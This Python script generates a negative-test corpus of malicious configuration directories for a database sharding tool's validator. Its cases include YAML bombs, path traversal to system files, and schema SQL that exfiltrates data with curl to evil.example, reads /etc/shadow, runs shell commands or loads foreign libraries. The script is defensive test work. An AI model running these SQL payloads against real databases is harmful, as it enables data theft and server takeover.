"""Writes tests/corpus/hostile/: config directories a careless or hostile user could hand shardctl.

Run it to regenerate the cases (`python tests/corpus/generate_hostile.py`), then
`python tests/corpus/generate_hostile.py --expect` to record each case's first error line in
expect.txt, and review the diff: the expectations are what a person approved, not a snapshot.

Each case has fleet.yaml (and whatever else it needs), expect.txt, jsonschema.txt (`rejects`:
the JSON Schema must refuse it too; `accepts`: the rule is beyond JSON Schema, such as a
cross-reference, SQL or a contradiction; `unparsed`: the YAML itself is refused), and may have
secret.txt: strings that must never appear in any output.
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
from itertools import pairwise
from pathlib import Path

HERE = Path(__file__).parent / "hostile"
S = "servers:\n  a: {embedded: true}\n"
KEY = "{column: customer_id, type: bigint}"
T = "CREATE TABLE t (customer_id bigint PRIMARY KEY);\n"
SECRET = "Sup3rS3cret-Hunter2"


def db(schema: str = "s.sql", extra: str = "", key: str = KEY, name: str = "orders") -> str:
    return (f"databases:\n  {name}:\n    shard_key: {key}\n    schema: {schema}\n    placement: [a]\n" + extra)


def pol(body: str, name: str = "p") -> str:
    return f"policies:\n  {name}:\n" + "".join(f"    {line}\n" for line in body.splitlines())


CASES: dict[str, dict] = {}


def case(name: str, yaml: str | bytes, schema: str = "accepts", sql: str | bytes | None = T, **more) -> None:
    assert name not in CASES, name
    CASES[name] = {"yaml": yaml, "schema": schema, "sql": sql, **more}


# ---- destruction, shard key and renames (validate-level) -----------------------------------------
case("key-typo-column", S + db(key="{column: customer, type: bigint}"))
case("key-wrong-type-text", S + db(key="{column: customer_id, type: text}"))
case("key-not-in-pk", S + db(), sql="CREATE TABLE t (customer_id bigint, id bigint PRIMARY KEY);\n")
case("key-no-pk", S + db(), sql="CREATE TABLE t (customer_id bigint);\n")
case("key-second-table-missing", S + db(), sql=T + "\n\nCREATE TABLE audit (id bigint PRIMARY KEY);\n")
case("key-int4-not-bigint", S + db(), sql="CREATE TABLE t (customer_id integer PRIMARY KEY);\n")
case("key-text-as-bigint", S + db(key="{column: account, type: text}"), sql="CREATE TABLE t (account bigint PRIMARY KEY);\n")
case("key-dropped-later", S + db(schema="[s.sql, s2.sql]"), s2="ALTER TABLE t DROP COLUMN customer_id;\n")
case("key-retyped-later", S + db(schema="[s.sql, s2.sql]"), s2="ALTER TABLE t ALTER COLUMN customer_id TYPE text;\n")
case("key-inline-step", S + db(schema='{name: init, sql: "CREATE TABLE t (id bigint PRIMARY KEY);"}'), sql=None)
case("key-schema-qualified", S + db(), sql="CREATE SCHEMA app;\nCREATE TABLE app.t (id bigint PRIMARY KEY);\n")
case("key-partitioned-parent", S + db(), sql="CREATE TABLE t (id bigint PRIMARY KEY) PARTITION BY HASH (id);\n")
case("key-unlogged", S + db(), sql="CREATE UNLOGGED TABLE t (id bigint PRIMARY KEY);\n")
case("key-renamed-table-lacks", S + db(schema="[s.sql, s2.sql]"), sql="CREATE TABLE x (id bigint PRIMARY KEY);\n",
     s2="ALTER TABLE x RENAME TO y;\n")
case("key-bad-column-pattern", S + db(key="{column: Customer-ID, type: bigint}"), schema="rejects")
case("key-type-int", S + db(key="{column: customer_id, type: int}"), schema="rejects")
case("moved-to-undeclared", S + db() + "moved:\n  - {from: sales, to: salez}\n")
case("moved-both-declared", S + db() + db(name="sales").replace("databases:\n", "")
     + "moved:\n  - {from: sales, to: orders}\n")
case("moved-to-itself", S + db() + "moved:\n  - {from: orders, to: orders}\n")
case("moved-twice", S + db() + "moved:\n  - {from: a1, to: orders}\n  - {from: a2, to: orders}\n")
case("moved-bad-name", S + db() + "moved:\n  - {from: Sales, to: orders}\n", schema="rejects")
case("moved-missing-to", S + db() + "moved:\n  - {from: sales}\n", schema="rejects")
case("allow-destroy-bad-name", S + db() + "allow_destroy:\n  databases: [Orders!]\n", schema="rejects")
case("allow-destroy-not-a-list", S + db() + "allow_destroy:\n  databases: orders\n", schema="rejects")
case("allow-destroy-unknown-key", S + db() + "allow_destroy:\n  database: [orders]\n", schema="rejects")

# ---- hangs and blow-ups ---------------------------------------------------------------------------
BOMB = "".join(f"{c}: &{c} [" + ", ".join([f"*{p}"] * 9 if p else ['"lol"'] * 9) + "]\n"
               for p, c in pairwise([None, *"abcdefghi"]))
case("bomb-billion-laughs", S + "x-bomb:\n" + "".join("  " + line + "\n" for line in BOMB.splitlines()), schema="unparsed")
case("bomb-top-level", S + BOMB, schema="unparsed")
case("bomb-in-policy", S + "policies:\n  p:\n    description: &d [" + ",".join(["x"] * 100) + "]\n"
     + "".join(f"  p{i}:\n    description: &d{i} [" + ",".join([f"*d{i - 1 if i else ''}"] * 50) + "]\n" for i in range(5)),
     schema="unparsed")
case("bomb-mapping", S + "a: &a {" + ", ".join(f"k{i}: v" for i in range(40)) + "}\n"
     + "".join(f"{c}: &{c} {{" + ", ".join(f"k{i}: *{p}" for i in range(40)) + "}\n"
               for p, c in pairwise("abcde")), schema="unparsed")
case("deep-flow-sequence", S + "policies: " + "[" * 5000 + "]" * 5000 + "\n", schema="unparsed")
case("deep-flow-mapping", S + "policies: " + "{a: " * 200 + "1" + "}" * 200 + "\n", schema="unparsed")
case("deep-block", S + "policies:\n" + "".join("  " * (i + 1) + f"k{i}:\n" for i in range(100)) + "  " * 101 + "x\n",
     schema="unparsed")
case("deep-mixed", S + "policies:\n  p:\n    description: " + "[{a: " * 80 + "1" + "}]" * 80 + "\n", schema="unparsed")
for field, value in [("metrics: {interval: NUM}", "9" * 400), ("autosplit: {cooldown: NUM}", "1" * 401),
                     ("detection: {window: NUM}", "7" * 500), ("hot: {queries_per_second: NUM}", "1" * 400 + ".5"),
                     ("hot: {connections: NUM}", "-" + "9" * 400), ("autosplit: {targets: NUM}", "0x" + "f" * 400)]:
    case(f"number-{field.split(':')[0]}-{len(value)}", S + pol(field.replace("NUM", value)), schema="unparsed")
case("duration-400-digits", S + pol("metrics: {interval: " + "9" * 400 + "s}"), schema="rejects")
case("duration-400-digits-ms", S + pol("autosplit: {retire_after: " + "9" * 400 + "ms}"), schema="rejects")
case("duration-century-plus", S + pol("autosplit: {cooldown: 99999d}"))
case("duration-huge-number", S + pol("autosplit: {cooldown: 1e300}"), schema="rejects")
case("size-400-digits", S.replace("true}", "true, capacity: {storage: " + "9" * 400 + "GiB}}"), schema="rejects")
case("size-huge-tib", S.replace("true}", "true, capacity: {memory: 999999999999999TiB}}"))
case("size-int-huge", S.replace("true}", "true, capacity: {memory: 99999999999999999999999}}"), schema="rejects")
case("size-zero", S.replace("true}", "true, capacity: {memory: 0GiB}}"))
for field in ["metrics: {interval: .nan}", "hot: {cpu_percent: .inf}", "cold: {queries_per_second: -.inf}",
              "detection: {tolerance_percent: .NaN}", "hot: {latency_ms: .Inf}", "autosplit: {cooldown: .nan}"]:
    case("nonfinite-" + field.split(":")[0] + "-" + field.split("{")[1].split(":")[0] + "-"
         + field.split(":")[-1].strip(" .}-").lower(), S + pol(field), schema="unparsed")
case("nul-in-comment", S + "# hello\0world\n", schema="unparsed")
case("nul-in-value", S + pol('description: "a\\0b"'), schema="unparsed")
case("nul-in-sql", S + db(), sql=T.encode() + b"\0DROP TABLE t;\n")
case("nul-in-inline-sql", S + db(schema='{name: x, sql: "CREATE TABLE t (customer_id bigint PRIMARY KEY);\\0"}'), sql=None,
     schema="unparsed")
case("nul-in-schema-name", S + db(schema='"s.sql\\0.txt"'), schema="unparsed")
for code in (0x07, 0x1B, 0x7F, 0x85 + 1):
    case(f"control-char-{code:02x}", S + pol(f"description: \"x{chr(code)}y\""), schema="unparsed")
case("control-char-in-key", S + "\x01policies: {}\n", schema="unparsed")
case("not-utf8-latin1", S.encode() + b"policies:\n  p: {description: caf\xe9}\n", schema="unparsed")
case("not-utf8-truncated", S.encode() + b"policies:\n  p: {description: \xe2\x82}\n", schema="unparsed")
case("not-utf8-utf16", "servers: {}\n".encode("utf-16"), schema="unparsed")
case("unclosed-double-quote", S + pol('description: "never closed\nhot: {}'), schema="unparsed")
case("unclosed-single-quote", S + pol("description: 'never closed\nhot: {}"), schema="unparsed")
case("unclosed-flow-mapping", S + pol("hot: {cpu_percent: 50\ncold: {}"), schema="unparsed")
case("unclosed-flow-sequence", S + db(schema="[s.sql, s2.sql"), schema="unparsed")
case("second-doc-scalar", S + "---\n5\n", schema="unparsed")
case("second-doc-list", S + "---\n- a\n- b\n", schema="unparsed")
case("merge-key-scalar", S + pol("<<: 5"), schema="unparsed")
case("merge-key-list-of-scalars", S + pol("<<: [1, 2]"), schema="unparsed")
case("merge-key-unknown-alias", S + pol("<<: *nowhere"), schema="unparsed")
case("merge-then-bad-key", S + "policies:\n  base: &b {hot: {cpu_percent: 50}}\n  p:\n    <<: *b\n    hott: {}\n",
     schema="rejects")
case("merge-brings-bad-type", S + "policies:\n  base: &b {description: [1]}\n  p:\n    <<: [*b, {}]\n", schema="rejects")
for tag, value in [("!!omap", "[{p: {}}]"), ("!!set", "{p: null}"), ("!!binary", "aGVsbG8="), ("!custom", "{}"),
                   ("!!python/object:os.system", "{}")]:
    case("tag-" + tag.strip("!").replace("/", "-").replace(":", "-").replace(".", "-"), S + f"policies: {tag} {value}\n",
         schema="unparsed")
case("complex-key-sequence", S + "policies:\n  ? [a, b]\n  : {}\n", schema="unparsed")
case("complex-key-mapping", S + "policies:\n  ? {a: 1}\n  : {}\n", schema="unparsed")
case("alias-undefined", S + "policies: *nothing\n", schema="unparsed")
case("anchor-redefined-bomb-free", S + "a: &x 1\nb: &x 2\n", schema="rejects")
case("duplicate-key-nested", S + pol("hot: {cpu_percent: 50}\nhot: {cpu_percent: 60}"), schema="unparsed")
case("duplicate-server", "servers:\n  a: {embedded: true}\n  a: {embedded: true}\n", schema="unparsed")
case("tab-indent", S + "policies:\n\tp: {}\n", schema="unparsed")
case("only-comments", "# nothing here\n# at all\n", schema="accepts")
case("only-empty-document", "", schema="accepts")
case("only-explicit-null", "---\n~\n", schema="accepts")
case("empty-mapping", "{}\n", schema="accepts")
case("top-level-list", "- servers\n", schema="unparsed")
case("top-level-scalar", "servers\n", schema="unparsed")
case("broken-symlink-config", S, links={"more.yaml": "gone/nowhere.yaml"})
case("symlink-loop-config", S, links={"loop.yaml": "loop.yaml"})
case("directory-named-yaml", S, dirs=["x.yaml"])
case("extends-cycle-long", S + "policies:\n" + "".join(f"  p{i}: {{extends: p{(i + 1) % 50}}}\n" for i in range(50)))
case("extends-deep-unknown", S + "policies:\n" + "".join(f"  p{i}: {{extends: p{i + 1}}}\n" for i in range(1500))
     + "  p1500: {extends: nowhere}\n")
case("extends-self", S + "policies:\n  p: {extends: p}\n")
case("extends-bad-name", S + "policies:\n  p: {extends: 'Default!'}\n", schema="rejects")

# ---- files outside the config directory -----------------------------------------------------------
case("schema-absolute-proc-environ", S + db(schema="/proc/self/environ"), sql=None)
case("schema-absolute-etc-passwd", S + db(schema="/etc/passwd"), sql=None)
case("schema-dotdot", S + db(schema="../../../../../../etc/passwd"), sql=None)
case("schema-dotdot-inside-first", S + db(schema="sub/../../outside.sql"), sql=None)
case("schema-symlink-out", S + db(schema="out.sql"), sql=None, links={"out.sql": "/etc/passwd"})
case("schema-symlink-dir-out", S + db(schema="lib/passwd"), sql=None, links={"lib": "/etc"})
case("schema-symlink-loop", S + db(schema="loop.sql"), sql=None, links={"loop.sql": "loop.sql"})
case("schema-symlink-broken", S + db(schema="gone.sql"), sql=None, links={"gone.sql": "nowhere.sql"})
case("schema-name-too-long", S + db(schema="x" * 300 + ".sql"), sql=None)
case("schema-is-directory", S + db(schema="sqldir"), sql=None, dirs=["sqldir"])
case("schema-file-step-absolute", S + db(schema="{file: /proc/self/environ}"), sql=None)
case("schema-not-utf8", S + db(), sql=b"CREATE TABLE t (customer_id bigint PRIMARY KEY); -- caf\xe9\n")
case("schema-file-and-sql", S + db(schema="{file: s.sql, name: x, sql: 'SELECT 1;'}"), schema="rejects")
case("schema-file-empty-name", S + db(schema="{file: ''}"), schema="rejects")

# ---- secrets --------------------------------------------------------------------------------------
for key in ("password", "PGPASSWORD", "db_password", "client_secret", "api_token", "pgpass", "auth_token"):
    case(f"secret-key-{key.lower()}", f"servers:\n  a:\n    embedded: true\n    {key}: {SECRET}\n", schema="rejects",
         secret=[SECRET])
case("secret-quoted", f"servers:\n  a:\n    embedded: true\n    password: '{SECRET}'\n", schema="rejects", secret=[SECRET])
case("secret-flow", f"servers:\n  a: {{embedded: true, password: \"{SECRET}\"}}\n", schema="rejects", secret=[SECRET])
case("secret-service-url", f"servers:\n  a:\n    service: 'postgresql+psycopg://app:{SECRET}@db/x'\n", schema="rejects",
     secret=[SECRET])
case("secret-service-kv", f"servers:\n  a:\n    service: 'host=db password={SECRET}'\n", schema="rejects", secret=[SECRET])
case("secret-service-plain", f"servers:\n  a:\n    service: '{SECRET}!'\n", schema="rejects", secret=[SECRET])
case("secret-dsn-env-url", f"servers:\n  a:\n    dsn_env: 'postgresql://app:{SECRET}@db/x'\n", schema="rejects",
     secret=[SECRET])
case("secret-dsn-env-kv", f"servers:\n  a:\n    dsn_env: 'host=db password={SECRET}'\n", schema="rejects", secret=[SECRET])
case("secret-https-userinfo", S + f"policies: {{p: {{hott: 'https://{SECRET}@git.example/x'}}}}\n", schema="rejects",
     secret=[SECRET])
case("secret-in-broken-yaml", f"servers:\n  a:\n    embedded: true\n    password: {SECRET}\n  b: [\n", schema="unparsed",
     secret=[SECRET])
case("secret-in-sql-comment", S + db(), sql=f"-- password={SECRET}\nCREATE TABLE t (id bigint PRIMARY KEY);\n",
     secret=[SECRET])
case("secret-environ-content", S + db(schema="/proc/self/environ"), sql=None, secret=["PATH=", "HOME="])

# ---- one contract: strict types and names ---------------------------------------------------------
for name, yaml in [
    ("type-shards-quoted", S + db(extra="    shards: '4'\n")),
    ("type-shards-float", S + db(extra="    shards: 4.0\n")),
    ("type-shards-bool", S + db(extra="    shards: true\n")),
    ("type-embedded-yes", "servers:\n  a: {embedded: yes}\n"),
    ("type-embedded-one", "servers:\n  a: {embedded: 1}\n"),
    ("type-embedded-quoted-true", "servers:\n  a: {embedded: 'true'}\n"),
    ("type-protect-on", S + db(extra="    protect: 'on'\n")),
    ("type-enabled-string", S + pol("autosplit: {enabled: 'false'}")),
    ("type-window-quoted", S + pol("detection: {window: '5'}")),
    ("type-cpu-quoted", S + pol("hot: {cpu_percent: '80'}")),
    ("type-history-float", S + pol("metrics: {history: 10.5}")),
    ("type-placement-string", S + db().replace("placement: [a]", "placement: a")),
    ("type-description-number", S + pol("description: 5")),
    ("type-servers-list", "servers: [a]\n"),
    ("type-policy-list", S + "policies: [p]\n"),
    ("type-ttl-bool", S + db() + "branches:\n  dev: {from: orders, server: a, ttl: true}\n"),
    ("type-sample-percent-quoted", S + db() + "branches:\n  dev: {from: orders, server: a, sample_percent: '5'}\n"),
    ("name-server-uppercase", "servers:\n  Alpha: {embedded: true}\n"),
    ("name-server-dash", "servers:\n  my-server: {embedded: true}\n"),
    ("name-database-digit", S + db(name="1orders")),
    ("name-database-too-long", S + db(name="o" * 40)),
    ("name-policy-space", S + "policies:\n  'my policy': {}\n"),
    ("name-branch-quote", S + db() + "branches:\n  \"dev'x\": {from: orders, server: a}\n"),
    ("name-placement-upper", S + db().replace("placement: [a]", "placement: [A]")),
    ("name-catalog-db", S + "catalog: {database: Shard-Ctl}\n"),
    ("name-env-dash", "servers:\n  a: {dsn_env: MY-DSN}\n"),
    ("name-int-key", "servers:\n  1: {embedded: true}\n"),
    ("value-shards-zero", S + db(extra="    shards: 0\n")),
    ("value-shards-too-many", S + db(extra="    shards: 100000\n")),
    ("value-cpu-over-100", S + pol("hot: {cpu_percent: 150}")),
    ("value-targets-one", S + pol("autosplit: {targets: 1}")),
    ("value-duration-negative", S + pol("autosplit: {cooldown: -5}")),
    ("value-data-kind", S + db() + "branches:\n  dev: {from: orders, server: a, data: everything}\n"),
    ("unknown-key-deep", S + pol("autosplit: {enabled: true, max_shard: 4}")),
    ("unknown-key-capacity", "servers:\n  a: {embedded: true, capacity: {disk: 1GiB}}\n"),
]:
    # JSON has one number type: 4.0 is an integer to JSON Schema, so "no 4.0 for a count" is a
    # rule it cannot express; the CLI is strict
    case(name, yaml, schema="accepts" if name == "type-shards-float" else "rejects")

# ---- contradictions -------------------------------------------------------------------------------
for name, body in [
    ("contra-hot-below-cold-cpu", "hot: {cpu_percent: 5}"),
    ("contra-hot-equals-cold", "hot: {connections: 50}\ncold: {connections: 50}"),
    ("contra-cold-above-default-hot", "cold: {queries_per_second: 50000}"),
    ("contra-latency", "hot: {latency_ms: 10}\ncold: {latency_ms: 20}"),
    ("contra-check-every-zero", "autosplit: {check_every: 0}"),
    ("contra-check-every-below-interval", "metrics: {interval: 30s}\nautosplit: {check_every: 10s}"),
    ("contra-interval-longer-than-check", "metrics: {interval: 2h}"),
    ("contra-window-over-history", "detection: {sustain: 10m}\nmetrics: {history: 20}"),
    ("contra-cold-window-over-history", "metrics: {history: 5}"),
    ("contra-hot-samples-over-window", "detection: {hot_samples: 9, window: 4}"),
]:
    case(name, S + pol(body))
case("contra-max-shards-below-shards", S + db(extra="    shards: 8\n    policy: p\n") + pol("autosplit: {max_shards: 4}"))
case("contra-override-hot-below-cold", S + db(extra="    thresholds:\n      hot: {connections: 5}\n"))
case("contra-branch-named-like-shard", S + db(name="branch") + "branches:\n  min_80:\n    from: branch\n    server: a\n")
case("contra-catalog-named-like-shard", S + db() + "catalog: {database: orders_min_80}\n")
case("contra-metrics-interval-below-1s", S + pol("metrics: {interval: 500ms}"))

# ---- one database, two declarations (issue 26): each would take or drop the other's ---------------
BR = "branches:\n  dev:\n    from: orders\n    server: a\n"
case("names-catalog-is-a-branch", S + db() + "catalog: {server: a, database: branch_dev}\n" + BR)
case("names-catalog-is-a-branch-default-server", S + db() + "catalog: {database: branch_dev}\n" + BR)
case("names-catalog-is-a-replica", S + db() + "catalog: {server: a, database: branch_dev}\n"
     + BR.replace("    server: a\n", "    data: replica\n    server: a\n"))
case("names-catalog-is-a-clone", S + db() + "catalog: {server: a, database: branch_fast}\n"
     + BR.replace("    server: a\n", "    data: replica\n    server: a\n") + "  fast: {from: dev, server: a}\n")
case("names-catalog-is-a-branch-block-style", S + db() + "catalog:\n  server: a\n  database: branch_dev\n" + BR)
case("names-branch-like-a-renamed-databases-shards", S + db() + "moved:\n  - {from: branch, to: orders}\n"
     + "branches:\n  min_80:\n    from: orders\n    server: a\n")

# ---- sizes are whole bytes (issue 26) ---------------------------------------------------------------
for name, size in [("size-half-byte", "0.5B"), ("size-tenth-kib", "0.1KiB"), ("size-fraction-kb", "0.123456KB"),
                   ("size-one-and-a-bit-bytes", "1.000001B")]:
    case(name, S.replace("true}", f"true, capacity: {{storage: {size}}}}}"))

# ---- credentials in any form, never echoed (issue 26) -------------------------------------------------
case("secret-dsn-env-bare-userinfo", f"servers:\n  a:\n    dsn_env: 'app:{SECRET}@db.example/x'\n", schema="rejects",
     secret=[SECRET])
case("secret-dsn-env-bare-userinfo-unquoted", f"servers:\n  a:\n    dsn_env: app:{SECRET}@db.example:5432/x\n",
     schema="rejects", secret=[SECRET])
case("secret-dsn-env-pgpass-line", f"servers:\n  a:\n    dsn_env: 'db.example:5432:orders:app:{SECRET}'\n",
     schema="rejects", secret=[SECRET])
case("secret-dsn-env-pgpass-wildcards", f"servers:\n  a:\n    dsn_env: '*:*:*:app:{SECRET}'\n", schema="rejects",
     secret=[SECRET])
case("secret-hott-bare-userinfo", S + f"policies: {{p: {{hott: 'app:{SECRET}@db.example/x'}}}}\n", schema="rejects",
     secret=[SECRET])
case("secret-sql-create-role-password", S + db(schema="[s.sql, s2.sql]"), s2=f"CREATE ROLE evil LOGIN PASSWORD '{SECRET}';\n",
     secret=[SECRET])
case("secret-sql-alter-role-encrypted", S + db(schema="[s.sql, s2.sql]"),
     s2=f"ALTER ROLE app WITH ENCRYPTED PASSWORD E'{SECRET}';\n", secret=[SECRET])
case("secret-sql-user-mapping", S + db(schema="[s.sql, s2.sql]"),
     s2=f"CREATE USER MAPPING FOR app SERVER s OPTIONS (user 'app', password '{SECRET}');\n", secret=[SECRET])
case("secret-sql-inline-role-password", S + db(schema=f'[s.sql, {{name: x, sql: "CREATE ROLE x PASSWORD \'{SECRET}\';"}}]'),
     secret=[SECRET])
case("secret-sql-inline-single-quoted", S + db(schema=f"[s.sql, {{name: x, sql: 'CREATE ROLE x PASSWORD ''{SECRET}'';'}}]"),
     secret=[SECRET])

# ---- schema SQL that reaches outside its database --------------------------------------------------
for name, sql in [
    ("copy-to-program", "COPY t TO PROGRAM 'curl -d @- http://evil.example';"),
    ("copy-from-program", "COPY t FROM PROGRAM 'cat /etc/shadow';"),
    ("copy-from-file", "COPY t FROM '/etc/passwd';"),
    ("copy-to-file", "COPY (SELECT 1) TO '/tmp/out.csv';"),
    ("alter-system", "ALTER SYSTEM SET shared_preload_libraries = 'evil';"),
    ("create-role-superuser", "CREATE ROLE evil SUPERUSER LOGIN PASSWORD 'x';"),
    ("alter-role", "ALTER ROLE postgres NOSUPERUSER;"),
    ("drop-role", "DROP ROLE IF EXISTS app;"),
    ("grant-role", "GRANT pg_read_server_files TO app;"),
    ("untrusted-function", "CREATE FUNCTION f() RETURNS int LANGUAGE plpython3u AS 'import os; return 1';"),
    ("untrusted-do", "DO LANGUAGE plperlu $$ system('id') $$;"),
    ("c-function", "CREATE FUNCTION f() RETURNS int LANGUAGE c AS '/tmp/evil.so', 'f';"),
    ("create-language", "CREATE LANGUAGE plpython3u;"),
    ("extension-dblink", "CREATE EXTENSION dblink;"),
    ("extension-plperlu", "CREATE EXTENSION plperlu;"),
    ("read-file-function", "CREATE VIEW v AS SELECT pg_read_file('/etc/passwd');"),
    ("lo-import", "SELECT lo_import('/etc/passwd');"),
    ("set-role", "SET ROLE postgres;"),
    ("tablespace", "CREATE TABLESPACE ts LOCATION '/tmp';"),
    ("load-library", "LOAD '/tmp/evil.so';"),
    ("alter-database", "ALTER DATABASE postgres SET work_mem = '1GB';"),
    ("foreign-server", "CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw;"),
    ("drop-database", "DROP DATABASE postgres;"),
    ("create-database", "CREATE DATABASE other;"),
    ("terminate-backends", "SELECT pg_terminate_backend(pid) FROM pg_stat_activity;"),
]:
    case(f"sql-{name}", S + db(schema="[s.sql, s2.sql]"), s2="-- a step\n" + sql + "\n")
case("sql-outside-inline", S + db(schema="[s.sql, {name: x, sql: \"ALTER SYSTEM SET fsync = off;\"}]"))
case("sql-outside-allowed-elsewhere", S + db(schema="[{file: s.sql, allow_outside_database: true}, s2.sql]"),
     s2="COPY t FROM '/srv/seed.csv';\n")
case("sql-syntax-after-valid", S + db(schema="[s.sql, s2.sql]"), s2="CREATE TABLE ok (customer_id bigint PRIMARY KEY);\n\nCREAT TABLE x;\n")


def write() -> None:
    if HERE.exists():
        shutil.rmtree(HERE)
    for name, spec in sorted(CASES.items()):
        d = HERE / name
        d.mkdir(parents=True)
        yaml = spec["yaml"]
        (d / "fleet.yaml").write_bytes(yaml if isinstance(yaml, bytes) else yaml.encode())
        for key in ("sql", "s2"):
            content = spec.get(key)
            if content is not None:
                (d / ("s.sql" if key == "sql" else "s2.sql")).write_bytes(
                    content if isinstance(content, bytes) else content.encode())
        for sub in spec.get("dirs", ()):
            (d / sub).mkdir()
            (d / sub / "README").write_text("a directory, not a file\n")
        for link, target in spec.get("links", {}).items():
            os.symlink(target, d / link)
        (d / "jsonschema.txt").write_text(spec["schema"] + "\n")
        if spec.get("secret"):
            (d / "secret.txt").write_text("\n".join(spec["secret"]) + "\n")


def expect() -> None:
    """Record the first error line of each case (review the diff before committing)."""
    for d in sorted(p for p in HERE.iterdir() if p.is_dir()):
        proc = subprocess.run([sys.executable, "-m", "engine", "-C", ".", "validate"], cwd=d, capture_output=True,
                              text=True, env={**os.environ, "NO_COLOR": "1"})
        first = proc.stderr.splitlines()[0] if proc.stderr else "(no error)"
        (d / "expect.txt").write_text(first + "\n")
        print(f"{proc.returncode} {d.name:45} {first[:150]}")


if __name__ == "__main__":
    expect() if "--expect" in sys.argv else write()
    if "--expect" not in sys.argv:
        print(json.dumps({"cases": len(CASES)}))
